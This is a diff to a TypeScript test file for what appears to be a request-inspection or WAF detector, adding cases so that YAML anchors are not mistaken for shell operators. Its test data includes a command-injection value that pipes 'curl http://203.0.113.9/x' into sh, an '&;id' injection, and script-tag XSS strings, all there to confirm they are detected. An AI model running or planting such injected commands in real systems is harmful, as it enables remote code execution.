@@ -133,6 +133,7 @@ describe("the values of a YAML or CSV body, one by one (request/rows.ts)", () =>
     ["a plain and a double-quoted scalar over deeper lines", "a: one\n   two\nb: \"x y\n  z\"\n- item\n  continued\n", ["one two", "x y z", "item continued"]],
     ["no key or item inside a block (its lines are its text)", "cfg: >\n  db.url: jdbc:postgresql://db/app\n  - item\nk: v12\n", ["db.url: jdbc:postgresql://db/app - item", "v12"]],
     ["doubled quotes as one, and ` #` inside quotes", "a: 'it''s # here'\nb: \"say \\\"hi\\\" # there\" # comment\n", ["it's # here", 'say "hi" # there']],
+    ["no anchor as part of a value", "base: &defaults\n  retries: 3\nlist:\n  - &route\n    name: routesId\n  - &a1 /etc/app.conf\nk: & x1\n", ["routesId", "/etc/app.conf", "& x1"]],
     ["an eight-digit \\U escape", 'x: "\\U0000003cscript\\U0000003e"\n', ["<script>"]],
     ["a double-quoted scalar with \\x and \\u escapes", 'note: "\\x3cscript\\u003ealert(1)\\x3c/script>"\n', ["<script>alert(1)</script>"]],
   ])("reads %s", (_what, doc, values) => {
@@ -290,6 +291,15 @@ paths:
 describe("a CI workflow or a manifest in YAML (request/rows.ts)", () => {
   it.each(CI_DOCUMENTS)("passes %s", (_what, doc) => {
     expect(inspect(h, { method: "POST", path: "/api/v1/pipelines", headers: [host, ["content-type", "application/yaml"]], body: doc }).matches).toEqual([]);
+  });
+
+  it("reads an anchor as no command sent to the background: the whole body has it blanked", () => {
+    const doc = "resources:\n  - &route\n    parameter_name: routesId\n    attribute_name: route\n";
+    expect(targetsOf(h, post("application/yaml", doc)).targets.filter((t) => t.kind === "body").map((t) => t.value)).toEqual([doc.replace("&route", "      ")]);
+    expect(inspect(h, post("application/yaml", doc)).matches).toEqual([]);
+    // what the anchor names is read: a command after it still counts
+    expect(inspect(h, post("application/yaml", "job:\n  cmd: &c1 ; curl http://203.0.113.9/x | sh\n")).score).toBeGreaterThanOrEqual(5);
+    expect(inspect(h, post("application/yaml", "job:\n  cmd: &;id\n")).score).toBeGreaterThanOrEqual(5);
   });
 
   it("reads a block's header as no pipe: the whole body has it blanked", () => {
